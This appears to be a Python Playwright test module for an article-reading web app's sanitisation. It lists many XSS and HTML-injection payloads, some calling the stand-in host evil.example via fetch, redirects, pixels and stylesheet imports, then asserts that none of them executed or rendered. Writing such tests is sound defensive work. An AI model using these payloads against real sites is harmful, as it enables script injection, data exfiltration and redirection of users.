"""Text that would like to be markup, a script or a link, and what shows that it became none."""

from __future__ import annotations

import re

from playwright.sync_api import Page

HIT = "window.hits=(window.hits||0)+1"
ATTACKS = [
    *(
        frame.format(code)
        for code in (
            HIT,
            f"fetch(`https://evil.example/?`+({HIT}))",
            "document.location=`https://evil.example/`",
        )
        for frame in (
            "<script>{}</script>",
            "</script><script>{}</script>",
            "<img src=x onerror='{}'>",
            '<img src=x onerror="{}">',
            "<svg onload='{}'>",
            "<svg><script>{}</script></svg>",
            "<body onload='{}'>",
            "<details open ontoggle='{}'>x</details>",
            "<input autofocus onfocus='{}'>",
            "<a href='javascript:{}'>read</a>",
            "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
            "<iframe src='javascript:{}'></iframe>",
            "\" onmouseover='{}' x=\"",
            "' onfocus='{}' autofocus x='",
            "</p></blockquote></li><script>{}</script>",
            "<math><mtext><style><img src=x onerror='{}'></style></mtext></math>",
            "javascript:{}",
            "{{{{constructor.constructor('{}')()}}}}",
            "${{{}}}",
            "`;{};`",
            "<marquee onstart='{}'>x</marquee>",
            "<video><source onerror='{}'></video>",
            "[read](javascript:{})",
        )
    ),
    "![photo](https://evil.example/pixel.png)",
    "[![photo](https://evil.example/pixel.png)](https://evil.example)",
    "<img src=https://evil.example/pixel.png>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>Read</button></form>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<!-- <script>" + HIT + "</script> -->",
    "<b>unclosed <i>markup <table><td>",
    "data:text/html,<script>" + HIT + "</script>",
    "\u202egnp.elif‮ \u2066isolated\u2067 never closed",
    "&lt;script&gt;" + HIT + "&lt;/script&gt;",
    "<ScRiPt\n>" + HIT + "</sCrIpT>",
    "\x00<scr\x00ipt>" + HIT + "</script>",
]


def undirected(text: str) -> str:
    """Text with single spaces and without what changes its direction."""
    return " ".join(re.sub("[\u202a-\u202e\u2066-\u2069]", "", text).split())


def unharmed(page: Page) -> None:
    """No script of an article's ran, nothing of its markup became an element, no link leads elsewhere."""
    assert page.evaluate("window.hits") is None
    assert page.evaluate("document.location.hostname") == "127.0.0.1"
    inside = "#thread, #articles, #masthead, #examples, #notice, #reader"
    assert (
        page.locator(inside)
        .locator(
            "img, iframe, svg:not(.chart svg), style, link, object, embed, form:not(.verdict form, .add-form), video"
        )
        .count()
        == 0
    )
    assert (
        page.locator(inside).locator("a[href*='evil'], a[href^='javascript' i], a[href^='data' i]").count()
        == 0
    )
    assert (
        page.evaluate(
            "roots => roots.split(', ').flatMap(root => [...document.querySelectorAll(`${root} *`)])"
            ".filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length",
            inside,
        )
        == 0
    )
